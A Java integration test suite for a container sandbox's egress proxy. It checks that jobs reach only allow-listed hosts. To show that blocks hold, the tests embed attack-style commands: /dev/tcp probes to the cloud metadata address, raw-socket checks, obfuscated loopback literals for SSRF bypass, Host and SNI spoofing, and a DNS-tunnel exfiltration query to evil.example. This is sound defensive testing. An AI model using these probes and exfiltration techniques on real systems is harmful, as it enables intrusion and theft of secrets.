package dev.mayfly.sandbox.docker;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mayfly.egress.Connection;
import dev.mayfly.egress.Connection.Verdict;
import dev.mayfly.egress.Destination;
import dev.mayfly.egress.EgressPolicy;
import dev.mayfly.egress.EgressRule;
import dev.mayfly.egress.Gateway;
import dev.mayfly.egress.JobOutlet;
import dev.mayfly.egress.KnownDestinations;
import dev.mayfly.egress.Outside;
import dev.mayfly.job.NetworkAccess;
import dev.mayfly.job.ServiceSpec;
import dev.mayfly.sandbox.ImageTerms;
import dev.mayfly.sandbox.Outlet;
import dev.mayfly.sandbox.Sandbox;
import dev.mayfly.sandbox.SandboxSpec;
import dev.mayfly.sandbox.SandboxSpec.Checkout;
import dev.mayfly.sandbox.Step;
import java.io.IOException;
import java.net.InetAddress;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * What a job reaches whose pool has a list, and what somebody in it tries in vain. Each try has a
 * control that shows the way is open to those who may. Needs an engine on this host, the agent
 * image and a static busybox.
 */
@Timeout(180)
class EgressIT {

    private static final Fixture FIXTURE = new Fixture();
    private static String web;

    private final Map<String, List<InetAddress>> names = new ConcurrentHashMap<>();
    private final List<Connection> connections = new CopyOnWriteArrayList<>();
    private final List<String> news = new CopyOnWriteArrayList<>();
    private final List<String> asked = new CopyOnWriteArrayList<>();
    private @TempDir Path folder;
    private Outside outside;
    private Outside secure;
    private Gateway gateway;
    private String host;
    private @Nullable JobOutlet outlet;
    private @Nullable SandboxSpec spec;

    @BeforeAll
    static void build() throws InterruptedException {
        web =
                FIXTURE.images.busybox(
                        "web",
                        "EXPOSE 8080",
                        "RUN [\"chown\", \"1000:1000\", \"/www\"]",
                        "CMD [\"sh\", \"-c\", \"echo served by a service > /www/index.html; exec httpd -f -p 8080 -h /www\"]");
    }

    @BeforeEach
    void open() throws Exception {
        outside = Outside.plain();
        secure = Outside.tls(folder, "good.example", "other.example");
        host = Outside.host().getHostAddress();
        for (String name : List.of("good.example", "evil.example", "sub.wild.example")) {
            names.put(name, List.of(Outside.host()));
        }
        gateway =
                new Gateway(
                        name -> {
                            asked.add(name.value());
                            List<InetAddress> found = names.get(name.value());
                            if (found == null) {
                                throw new IOException("the name does not exist");
                            }
                            return found;
                        },
                        (_, _, connection) -> connections.add(connection),
                        KnownDestinations.NONE);
    }

    @AfterEach
    void nothingIsLeft() throws Exception {
        if (spec != null) {
            FIXTURE.destroy(spec.job());
        }
        outside.close();
        secure.close();
        gateway.close();
        FIXTURE.assertNothingLeft();
    }

    @AfterAll
    static void close() throws InterruptedException {
        FIXTURE.close();
    }

    private EgressPolicy list(String... more) {
        List<EgressRule> rules = new ArrayList<>();
        // The host is private, so what leads to it must be listed too.
        rules.add(EgressRule.parse(host + ":" + outside.port()));
        rules.add(EgressRule.parse(host + ":" + secure.port()));
        for (String rule : more) {
            rules.add(EgressRule.parse(rule));
        }
        return new EgressPolicy(EgressPolicy.Mode.ALLOW, rules, false, 32);
    }

    private String at(String name) {
        return name + ":" + outside.port();
    }

    private JobOutlet outlet(SandboxSpec of, EgressPolicy policy, @Nullable Destination sources) {
        return gateway.open(
                policy, new Gateway.Traveller(of.job(), of.pool(), "project"), sources, news::add);
    }

    private Sandbox sandbox(EgressPolicy policy, ServiceSpec... services)
            throws InterruptedException {
        SandboxSpec plain = Fixture.with(FIXTURE.spec(), NetworkAccess.FULL, services);
        spec = plain;
        outlet = outlet(plain, policy, null);
        return FIXTURE.create(with(plain, outlet));
    }

    static SandboxSpec with(SandboxSpec s, @Nullable Outlet outlet) {
        return new SandboxSpec(
                s.job(),
                s.pool(),
                s.image(),
                s.services(),
                s.registries(),
                s.network(),
                s.checkout(),
                s.directory(),
                s.limits(),
                s.hardening(),
                outlet,
                ImageTerms.NONE);
    }

    private static String run(Sandbox sandbox, String... lines) throws InterruptedException {
        return Fixture.run(sandbox, lines).output();
    }

    /** A request that a job makes, with the answer or the code of what went wrong. */
    private static String get(Sandbox sandbox, String... arguments) throws InterruptedException {
        return run(
                sandbox,
                "curl -sS -k -m 10 " + String.join(" ", arguments) + " 2>&1 || echo \"code $?\"");
    }

    private static final String NO_PROXY = "--noproxy '*'";

    private List<String> verdicts(Verdict verdict) {
        return connections.stream()
                .filter(one -> one.verdict() == verdict)
                .map(Connection::destination)
                .distinct()
                .toList();
    }

    @Test
    void listedNameIsReachedByEveryWayThatProgramsHave() throws Exception {
        Sandbox sandbox =
                sandbox(
                        list(
                                at("good.example"),
                                "good.example:" + secure.port(),
                                "*.wild.example:" + outside.port(),
                                "*.wild.example:" + secure.port()));

        String plain = "http://" + at("good.example") + "/a";
        String tls = "https://good.example:" + secure.port() + "/b";
        assertThat(get(sandbox, plain)).as("HTTP through the proxy").startsWith("served good");
        assertThat(get(sandbox, "--proxytunnel", plain)).as("CONNECT").startsWith("served good");
        assertThat(get(sandbox, tls)).as("TLS through the proxy").startsWith("served good");
        assertThat(get(sandbox, NO_PROXY, plain)).as("without a proxy").startsWith("served good");
        assertThat(get(sandbox, NO_PROXY, tls)).as("TLS without one").startsWith("served good");
        assertThat(get(sandbox, NO_PROXY, "http://" + at("sub.wild.example") + "/"))
                .as("a name below a listed one")
                .startsWith("served sub.wild");
        assertThat(get(sandbox, "-X POST --data-binary @/bin/bash", plain))
                .as("a request with a body")
                .matches("served good.example:\\d+ /a [1-9]\\d{5,}\n");
        assertThat(verdicts(Verdict.REFUSED)).isEmpty();
        assertThat(verdicts(Verdict.ALLOWED))
                .containsExactlyInAnyOrder(
                        at("good.example"),
                        "good.example:" + secure.port(),
                        at("sub.wild.example"));
        assertThat(Objects.requireNonNull(outlet).table())
                .anyMatch(line -> line.contains(at("good.example")) && line.contains("allowed"));
    }

    @Test
    void whatIsNotListedIsRefusedWithWordsAndNobodyIsAskedForIt() throws Exception {
        Sandbox sandbox = sandbox(list(at("good.example")));

        assertThat(get(sandbox, "http://" + at("good.example") + "/")).startsWith("served");
        assertThat(get(sandbox, "http://" + at("evil.example") + "/"))
                .contains("does not let its jobs connect to " + at("evil.example"))
                .contains("no rule allows it")
                .contains("add \"" + at("evil.example") + "\" to egress.allow");
        assertThat(get(sandbox, "--proxytunnel", "http://" + at("evil.example") + "/"))
                .contains("403");
        assertThat(get(sandbox, NO_PROXY, "http://" + at("evil.example") + "/"))
                .as("no name without the proxy")
                .contains("code 6");
        assertThat(get(sandbox, "http://good.example:1/")).as("another port").contains("no rule");
        assertThat(asked).containsOnly("good.example");
        assertThat(verdicts(Verdict.REFUSED))
                .contains(at("evil.example"), "evil.example (name)", "good.example:1");
        assertThat(news).anyMatch(line -> line.contains(at("evil.example") + " refused"));
        assertThat(Objects.requireNonNull(outlet).table())
                .anyMatch(line -> line.contains(at("evil.example")) && line.contains("REFUSED"));
    }

    @Test
    void rawPacketsLeadNowhere() throws Exception {
        Sandbox sandbox = sandbox(list(at("good.example")));
        String target = host + "/" + outside.port();
        String gatewayOf = run(sandbox, "hostname -I").strip().replaceFirst("\\.\\d+$", ".1");
        List<String> targets =
                List.of(
                        target,
                        Outside.bridge().getHostAddress() + "/" + outside.port(),
                        gatewayOf + "/" + outside.port(),
                        "169.254.169.254/80",
                        "1.1.1.1/443");
        List<String> lines = new ArrayList<>();
        for (String one : targets) {
            lines.add(
                    "timeout 2 bash -c 'exec 3<>/dev/tcp/%s; echo GET / >&3' 2>/dev/null && echo open %s"
                            .formatted(one, one));
        }
        lines.add("cat /proc/net/if_inet6 | grep -v ' lo$' || echo no IPv6");
        lines.add(
                "perl -MSocket -e 'socket(S, PF_INET, SOCK_RAW, 1) and print \"raw\\n\"; socket(P, PF_PACKET = 17, SOCK_RAW, 0) and print \"packet\\n\"' 2>/dev/null");
        lines.add("ls /var/run/docker.sock /run/docker.sock 2>/dev/null");
        lines.add("true");

        assertThat(get(sandbox, "http://" + at("good.example") + "/"))
                .as("control: the way through the proxy is open")
                .startsWith("served");
        assertThat(run(sandbox, lines.toArray(String[]::new))).isEqualTo("no IPv6\n");
        assertThat(outside.heard()).hasSize(1);
    }

    @Test
    void proxyLeadsToNoAddressThatIsPrivateWhateverItsName() throws Exception {
        names.put("inside.example", List.of(Outside.bridge()));
        names.put("loop.example", List.of(InetAddress.ofLiteral("127.0.0.1")));
        names.put("meta.example", List.of(InetAddress.ofLiteral("169.254.169.254")));
        names.put("mapped.example", List.of(InetAddress.ofLiteral("::1")));
        names.put("rebound.example", List.of(Outside.bridge(), Outside.host()));
        Sandbox sandbox =
                sandbox(
                        list(
                                at("good.example"),
                                at("inside.example"),
                                at("loop.example"),
                                at("meta.example"),
                                at("mapped.example"),
                                at("rebound.example")));

        assertThat(get(sandbox, "http://" + at("good.example") + "/")).startsWith("served");
        for (String name : List.of("inside", "loop", "meta", "mapped")) {
            assertThat(get(sandbox, "http://" + at(name + ".example") + "/"))
                    .contains("does not let");
            assertThat(get(sandbox, NO_PROXY, "http://" + at(name + ".example") + "/"))
                    .contains("does not let");
        }
        for (String literal :
                List.of(
                        "127.0.0.1",
                        "0",
                        "0x7f.1",
                        "2130706433",
                        "017700000001",
                        "[::1]",
                        "[::ffff:127.0.0.1]",
                        "169.254.169.254",
                        "localhost",
                        Outside.bridge().getHostAddress())) {
            assertThat(
                            run(
                                    sandbox,
                                    "p=${http_proxy#http://}; exec 3<>/dev/tcp/${p%:*}/${p#*:};"
                                            + " printf 'CONNECT "
                                            + at(literal)
                                            + " HTTP/1.1\\r\\n\\r\\n' >&3; head -1 <&3"))
                    .as("as it is written: %s", literal)
                    .contains("403");
        }
        assertThat(get(sandbox, "http://" + at("rebound.example") + "/"))
                .as("of several addresses only the one that may be reached is")
                .startsWith("served");
        assertThat(connections)
                .filteredOn(one -> one.destination().equals(at("rebound.example")))
                .extracting(Connection::address)
                .containsOnly(host);
        assertThat(
                        get(
                                sandbox,
                                "--noproxy '' -L",
                                "http://" + at("good.example") + "/to/127.0.0.1:1"))
                .as("a redirection is a request of its own")
                .contains("does not let its jobs connect to 127.0.0.1:1");
        assertThat(outside.heard()).hasSize(3);
    }

    @Test
    void nameSaidInTlsOrHttpIsTheOneThatIsConnectedTo() throws Exception {
        Sandbox sandbox =
                sandbox(
                        list(
                                at("good.example"),
                                at("other.example"),
                                "good.example:" + secure.port(),
                                "other.example:" + secure.port()));
        String good = "good.example:" + secure.port();

        assertThat(get(sandbox, NO_PROXY, "https://" + good + "/")).startsWith("served good");
        String relay = "$(getent hosts good.example | cut -d' ' -f1)";
        assertThat(
                        get(
                                sandbox,
                                NO_PROXY,
                                "--connect-to evil.example:443:good.example:" + secure.port(),
                                "https://evil.example/"))
                .as("a greeting for a name that is not listed")
                .contains("code 35");
        assertThat(get(sandbox, "--connect-to evil.example:443:" + good, "https://evil.example/"))
                .as("the same inside of a tunnel to a listed name")
                .contains("code 35");
        assertThat(get(sandbox, NO_PROXY, "https://" + relay + ":" + secure.port() + "/"))
                .as("a greeting for no name")
                .contains("code 35");
        assertThat(
                        get(
                                sandbox,
                                NO_PROXY,
                                "-H 'Host: evil.example'",
                                "http://" + at("good.example") + "/"))
                .contains("does not let its jobs connect to " + at("evil.example"));
        assertThat(get(sandbox, "-H 'Host: evil.example'", "http://" + at("good.example") + "/"))
                .as("to the proxy the address counts, and the server hears no other")
                .startsWith("served " + at("good.example"));
        assertThat(outside.heard()).noneMatch(line -> line.contains("evil"));
        assertThat(secure.heard()).hasSize(1);
        assertThat(verdicts(Verdict.REFUSED))
                .contains("evil.example:" + secure.port(), good, at("evil.example"));
    }

    @Test
    void questionForANameLeavesTheHostInNoForm() throws Exception {
        Sandbox sandbox = sandbox(list(at("good.example")));

        String tunnel =
                "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => $ARGV[0],"
                        + " PeerPort => 53, Proto => \"udp\") or exit 1; $q ="
                        + " pack(\"n6\",7,256,1,0,0,0).join(\"\",map{chr(length).$_}split(/\\./,$ARGV[1])).\"\\0\".pack(\"nn\",$ARGV[2],1);"
                        + " $s->send($q); $SIG{ALRM}=sub{print \"nothing\\n\";exit}; alarm 3;"
                        + " $s->recv($a,999); @h=unpack(\"n6\",$a); printf \"code %d answers %d\\n\","
                        + " $h[1]&15, $h[3]'";
        String relay = "relay=${http_proxy#http://}; relay=${relay%:*}";
        assertThat(
                        run(
                                sandbox,
                                relay,
                                "getent hosts good.example >/dev/null && echo good",
                                "getent hosts c2VjcmV0.evil.example || echo none",
                                tunnel + " $relay good.example 1",
                                tunnel + " $relay good.example 16",
                                tunnel + " $relay c2VjcmV0.evil.example 1",
                                tunnel + " $relay c2VjcmV0.evil.example 16",
                                tunnel + " 1.1.1.1 good.example 1"))
                .isEqualTo(
                        "good\nnone\ncode 0 answers 1\ncode 0 answers 0\ncode 3 answers 0\ncode 3"
                                + " answers 0\nnothing\n");
        assertThat(asked).isEmpty();
        assertThat(verdicts(Verdict.REFUSED)).containsOnly("c2vjcmv0.evil.example (name)");
    }

    @Test
    void otherJobIsReachedNeitherDirectlyNorThroughAnyProxy() throws Exception {
        ServiceSpec service = new ServiceSpec(web, "web", List.of(), Map.of());
        Sandbox sandbox = sandbox(list(at("good.example")), service);
        SandboxSpec neighbour = Fixture.with(FIXTURE.spec(), NetworkAccess.FULL, service);
        try (JobOutlet way = outlet(neighbour, list(at("good.example")), null)) {
            Sandbox other = FIXTURE.create(with(neighbour, way));
            String network = Role.NETWORK.nameFor(neighbour.job());
            String serviceOfOther = address(Role.SERVICE.nameFor(neighbour.job(), 0), network);
            String relayOfOther = address(Role.RELAY.nameFor(neighbour.job()), network);

            assertThat(get(other, "http://" + serviceOfOther + ":8080/", NO_PROXY))
                    .as("control: its own job reaches the service")
                    .startsWith("served by a service");
            assertThat(get(sandbox, "http://web:8080/"))
                    .as("by its alias, past the proxy")
                    .startsWith("served by a service");
            assertThat(get(sandbox, NO_PROXY, "http://" + serviceOfOther + ":8080/"))
                    .contains("code");
            assertThat(get(sandbox, "http://" + serviceOfOther + ":8080/"))
                    .contains("does not let");
            assertThat(
                            get(
                                    sandbox,
                                    "-x http://" + relayOfOther + ":3128",
                                    "http://" + at("good.example") + "/"))
                    .as("the other job's proxy")
                    .contains("code");
            assertThat(get(other, "http://" + at("good.example") + "/"))
                    .as("control: its own job reaches it")
                    .startsWith("served");
        } finally {
            FIXTURE.destroy(neighbour.job());
        }
    }

    private static String address(String container, String network) throws InterruptedException {
        return Objects.requireNonNull(
                Objects.requireNonNull(
                                FIXTURE.inspect(container)
                                        .getNetworkSettings()
                                        .getNetworks()
                                        .get(network))
                        .getIpAddress());
    }

    @Test
    void sourcesComeFromTheirServerThatTheJobDoesNotReach() throws Exception {
        SandboxSpec plain =
                Fixture.with(Fixture.with(FIXTURE.spec(), NetworkAccess.FULL), Checkout.ONLINE);
        spec = plain;
        EgressPolicy nothing = new EgressPolicy(EgressPolicy.Mode.ALLOW, List.of(), false, 8);
        Destination git = Destination.parse(at("evil.example"), 0);
        Sandbox sandbox = FIXTURE.create(with(plain, outlet(plain, nothing, git)));
        String request = "curl -sS -m 10 http://" + at("evil.example") + "/";

        assertThat(Fixture.run(sandbox, Fixture.inHelper(request)).output()).startsWith("served");
        assertThat(Fixture.run(sandbox, Fixture.inHelper("curl -sS http://good.example/")).output())
                .contains("does not let");
        assertThat(run(sandbox, request)).contains("does not let");
        sandbox.endCheckout();
        assertThat(run(sandbox, request)).contains("does not let");
        assertThat(outside.heard()).hasSize(1);
    }

    @Test
    void jobWithoutANetworkHasNoneWhileItsSourcesComeThroughTheirs() throws Exception {
        SandboxSpec plain =
                Fixture.with(Fixture.with(FIXTURE.spec(), NetworkAccess.NONE), Checkout.ONLINE);
        spec = plain;
        Sandbox sandbox =
                FIXTURE.create(with(plain, outlet(plain, list(at("good.example")), null)));
        String request = "curl -s -m 10 http://" + at("good.example") + "/ || echo none";

        assertThat(Fixture.run(sandbox, Fixture.inHelper(request)).output()).startsWith("served");
        assertThat(run(sandbox, "ls /sys/class/net; " + request)).isEqualTo("lo\nnone\n");
        sandbox.endCheckout();
        assertThat(FIXTURE.leftovers()).noneMatch(left -> left.contains("relay"));
        assertThat(FIXTURE.leftovers()).noneMatch(left -> left.startsWith("network"));
    }

    @Test
    void recordingPoolLetsThroughWhatItsListWouldRefuse() throws Exception {
        EgressPolicy list = list(at("good.example"));
        Sandbox sandbox =
                sandbox(new EgressPolicy(list.mode(), list.rules(), true, list.connections()));

        assertThat(get(sandbox, "http://" + at("evil.example") + "/")).startsWith("served");
        assertThat(get(sandbox, "--noproxy ''", "http://" + at("127.0.0.1") + "/"))
                .as("this host is not opened for the sake of a record")
                .contains("does not let");
        assertThat(verdicts(Verdict.WOULD_REFUSE)).containsExactly(at("evil.example"));
    }

    @Test
    void stalledConnectionHoldsNoOtherUp() throws Exception {
        Sandbox sandbox = sandbox(list(at("good.example")));

        assertThat(
                        run(
                                sandbox,
                                "p=${http_proxy#http://}",
                                "for i in 1 2 3 4 5 6; do exec {fd}<>/dev/tcp/${p%:*}/${p#*:};"
                                        + " printf 'GET http://"
                                        + at("good.example")
                                        + "/bytes/900000000 HTTP/1.1\\r\\n\\r\\n' >&$fd; done",
                                "sleep 1",
                                "for i in 1 2 3; do curl -sS -m 10 http://"
                                        + at("good.example")
                                        + "/$i; done",
                                "curl -sS -m 20 -o /dev/null -w '%{size_download}\\n' http://"
                                        + at("good.example")
                                        + "/bytes/50000000"))
                .containsSubsequence("/1 0\n", "/2 0\n", "/3 0\n", "50000000\n");
    }

    @Test
    void proxyOfTheJobsOwnVariablesGivesWayAndItsExceptionsStay() throws Exception {
        Sandbox sandbox = sandbox(list(at("good.example")));
        Step step =
                Fixture.shell(
                        Map.of("http_proxy", "http://elsewhere:1", "NO_PROXY", "own.example"),
                        "env | grep -i _proxy | sort");

        assertThat(Fixture.run(sandbox, step).output())
                .doesNotContain("elsewhere")
                .contains("no_proxy=127.0.0.1,::1,localhost,own.example\n")
                .containsPattern("(?m)^HTTPS_PROXY=http://[0-9.]+:3128$");
    }

    @Test
    void networkOfTheJobAndItsRelayHaveNothingOfTheHost() throws Exception {
        sandbox(list(at("good.example")));
        var relay = FIXTURE.inspect(Objects.requireNonNull(spec).job(), Role.RELAY);

        assertThat(relay.getMounts()).isEmpty();
        assertThat(relay.getConfig().getUser()).isEqualTo("65534:65534");
        assertThat(relay.getHostConfig().getReadonlyRootfs()).isTrue();
        assertThat(relay.getHostConfig().getCapAdd()).isNullOrEmpty();
        assertThat(relay.getConfig().getEnv()).noneMatch(variable -> variable.contains("proxy"));
        Step step =
                Fixture.shell(Map.of("http_proxy", "http://elsewhere", "NO_PROXY", "own"), "env");
        assertThat(step.environment()).containsKey("http_proxy");
    }
}
